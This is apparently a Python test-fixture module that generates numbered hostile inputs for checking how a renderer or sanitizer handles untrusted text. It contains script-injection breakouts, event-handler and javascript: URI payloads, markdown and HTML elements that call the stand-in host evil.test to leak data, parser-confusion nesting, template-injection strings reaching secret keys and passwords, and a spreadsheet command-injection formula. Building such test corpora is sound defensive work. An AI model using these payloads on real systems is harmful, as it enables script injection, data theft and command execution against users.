"""Texts that would like to be more than text: carriers combined with what they carry.

Each is numbered, and bears its number in whatever it would do: `alert(17)`, or a request for `http://evil.test/?q=17`.
"""

import base64
from functools import cache
from itertools import product

ALERT, EVIL = "alert(§)", "http://evil.test/?q=§"
IMAGE = f"<img src=x onerror={ALERT}>"
BREAKOUTS = [
    "", '">', "'>", "`>", '" ', "-->", "--!>", "]]>", "?>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>",
    "</template>", "</select>", "</xmp>", "</pre></code>", '\\"}</script>', "*/</style>", '{"a":"', "<!--", "<![CDATA[", "<x a='",
]  # fmt: skip
BODIES = [f"<script>{ALERT}</script>", IMAGE, f"<svg onload={ALERT}>"]
# An element, the attributes that make its event happen at once, and the event.
LIVELY = [
    ("img", "src=x", "error"), ("svg", "a", "load"), ("body", "a", "load"), ("video", "src=x", "error"), ("audio", "src=x", "error"),
    ("details", "open", "toggle"), ("input", "autofocus", "focus"), ("select", "autofocus", "focus"), ("iframe", "srcdoc=x", "load"),
    ("object", "data=x", "error"), ("embed", "src=x", "load"), ("link", "rel=stylesheet href=x", "error"), ("style", "a", "load"),
    ("a", "href=x autofocus", "focus"), ("button", "autofocus", "focus"), ("x", "tabindex=1 autofocus", "focus"),
    ("marquee", "a", "start"), ("p", "style=animation:spin+1s", "animationstart"), ("math", "a", "focus"), ("frameset", "a", "load"),
]  # fmt: skip
SPELLINGS = [f"<{{0}} {{1}} on{{2}}={ALERT}>", "<{0}/{1}/ON{2}\n = 'al&#101;rt(§)'>", f'*<{{0}}\t{{1}} x=`` on{{2}}="{ALERT}"//']
ADDRESSES = [
    f"javascript:{ALERT}", f"JaVaScRiPt:{ALERT}//", f"java&#10;script:{ALERT}", f"&#106;avascript&colon;{ALERT}", f"\x01javascript:{ALERT}",
    f"java\tscript:{ALERT}", f"javascript&#x3a;{ALERT}", f"data:text/html,<script>{ALERT}</script>", "vbscript:msgbox(§)",
    f"view-source:javascript:{ALERT}", "file:///etc/passwd?q=§", "//evil.test/?q=§",
]  # fmt: skip
LINKS = [
    "[x]({})", "[x](<{}> 'x')", "![x]({})", "<{}>", '<a href="{0}" target=_top>{0}</a>', "[x][r§]\n\n[r§]: {}",
    '<form action="{0}"><button formaction="{0}">x</button></form>',
]  # fmt: skip
FETCHES = [
    f"![x]({EVIL})", f'![x]({EVIL} "t")', f"![x][i§]\n\n[i§]: {EVIL}", f"[![x]({EVIL})]({EVIL})", f"| a |\n|---|\n| ![x]({EVIL}) |",
    f"- ![\n  x]({EVIL})", f"![x](<{EVIL}>)", f"![](  {EVIL}  )", f"<img src={EVIL}>", f'<img srcset="{EVIL} 1x">',
    f'<picture><source srcset="{EVIL}"><img></picture>', f"<video poster={EVIL} src={EVIL}>", f"<audio src={EVIL} autoplay>",
    f"<input type=image src={EVIL}>", f"<body background={EVIL}>", f"<table background={EVIL}><td background={EVIL}>",
    f"<svg><image href={EVIL} /></svg>", f"<svg><use href={EVIL}#a /></svg>", f"<svg><filter><feImage xlink:href={EVIL} /></filter></svg>",
    f"<style>@import '{EVIL}';</style>", f"<style>*{{background:url({EVIL})}}</style>", f'<p style="background:url({EVIL})">x</p>',
    f'<p style="list-style:\\75rl({EVIL})">x</p>', f"<link rel=stylesheet href={EVIL}>", f"<link rel=preload as=image href={EVIL}>",
    f"<link rel=prefetch href={EVIL}>", "<link rel=dns-prefetch href=//q§.evil.test>", f"<link rel=icon href={EVIL}>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">', f"<base href={EVIL}>", f"<iframe src={EVIL}></iframe>", f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>", f"<frameset><frame src={EVIL}></frameset>", f"<video><track src={EVIL} default></video>",
    f"<form action={EVIL} method=post><input name=q autofocus></form>", f"<a href=/ ping={EVIL}>x</a>", f"<script src={EVIL}></script>",
    f'<div attributionsrc="{EVIL}">x</div>', f'<math href="{EVIL}">x</math>', f"{EVIL}", f"<{EVIL}>", "www.evil.test/?q=§", "q§@evil.test",
]  # fmt: skip
# What a parser makes something else of the second time: one that opens, one that swallows, and what was hidden in it.
OPENERS = ["<math><mtext><table><mglyph>", "<svg><foreignObject>", "<form><math><mtext></form><form>", "<svg></p>", "<table><select>"]
SWALLOWERS = ["<style><!--</style>{}", '<title><a id="</title>{}">', '<noscript><p title="</noscript>{}">', "<xmp></xmp>{}", "<textarea>{}"]
CODE = [
    "```html\n{}\n```", "```{}\ntext\n```", "```x\" onmouseover=\"alert(§)\ntext\n```", "~~~ {}\n~~~", "`` {} ``", "    {}",
    "```__proto__\n{}\n```", "```constructor\n{}\n```", "> ```js\n> {}", "- ```\n  {}\n```", "```js\n</code></pre>{}", "# {}",
    "- [ ] {}", "| {} |\n|:-|\n| {} |", "[{}]({})", "***{}***", "<p>\n\n{}\n\n</p>", "\\{}", "~~{}~~",
]  # fmt: skip
NAMES = ["__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "then", "toJSON", "nodeType"]
CLOBBERS = ["location", "getElementById", "createElement", "text", "composer", "messages", "snapshot", "elements", "parentNode", "me"]
WORDS = [
    "{{ request.user.password }} {{ 7|add:'§' }}", "{% debug %}{% load static %}§", "{% csrf_token %}{{ settings.SECRET_KEY }} §", "${alert(§)}",
    "#{alert(§)} <%= alert(§) %> [[${alert(§)}]]", "\\u003cscript\\u003ealert(§)\\u003c/script\\u003e", "%3Cscript%3Ealert(§)%3C/script%3E",
    "&lt;script&gt;alert(§)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(§)&amp;gt;", "＜script＞alert(§)＜/script＞", "+ADw-script+AD4-alert(§)",
    "'-alert(§)-'", '"}];alert(§)//', "';alert(§)//\\';", "\u2028alert(§)\u2029", "\u202ealert(§)\u202dabc", "\u2066\u2067\u2068alert(§)",
    "\u2069\u202etxt.exe(§)", "a\u200bl\u200de\u200crt(§)\ufeff", "שלום (§) עולם", "‏alert(§)‎ <b>", "Z\u0335\u0322\u0300\u0301\u0302" * 30 + "§",
    "§" + "x" * 4000, "§" + "🙂" * 1500, "§" + "W" * 900 + "<b>", "https://evil.test/" + "a" * 1500 + "?q=§", "`§" + "y" * 1500 + "`",
    "```" + "l" * 300 + "\n§\n```", "# §" + "h" * 600, "> " * 150 + "§", "- " * 60 + "§", "[" * 300 + "§" + "]" * 300, "*" * 300 + "§",
    "<div>" * 300 + IMAGE, "<" * 300 + IMAGE, "|" * 200 + "\n" + "|-" * 200 + "|\n§", "@import url(§);", "=cmd|' /C calc'!A§", "§\n\n---\n\n[x]: <\n",
]  # fmt: skip


def _shapes() -> list[str]:
    """All of them, without their numbers."""
    encoded = base64.b64encode(b"<script>alert(0)</script>").decode()
    found = [before + body for before, body in product(BREAKOUTS, BODIES)]
    found += [spelling.format(*lively) for spelling, lively in product(SPELLINGS, LIVELY)]
    found += [link.format(address) for address, link in product([*ADDRESSES, f"data:text/html;base64,{encoded}#§"], LINKS)]
    found += FETCHES
    found += [opener + swallower.format(IMAGE) for opener, swallower in product(OPENERS, SWALLOWERS)]
    found += [code.replace("{}", IMAGE) for code in CODE]
    found += [
        f"<{tag} id={name} name={name} href=x:§>" for tag, name in zip(["a", "img", "form", "input", "object"] * 2, CLOBBERS, strict=True)
    ]
    return found + [f"{name}§" for name in NAMES] + WORDS


@cache
def payloads() -> list[str]:
    """Hostile texts; the number of each is its place."""
    return [shape.replace("§", str(number)) for number, shape in enumerate(_shapes())]


def packs(longest: int, among: list[str] | None = None, between: str = " ") -> list[str]:
    """The payloads in as few texts of at most so many characters as go; what is longer by itself is cut."""
    packed = [""]
    for payload in payloads() if among is None else among:
        if len(packed[-1]) + len(between) + len(payload) > longest:
            packed.append("")
        packed[-1] = (packed[-1] + between + payload if packed[-1] else payload)[:longest]
    return [text for text in packed if text]
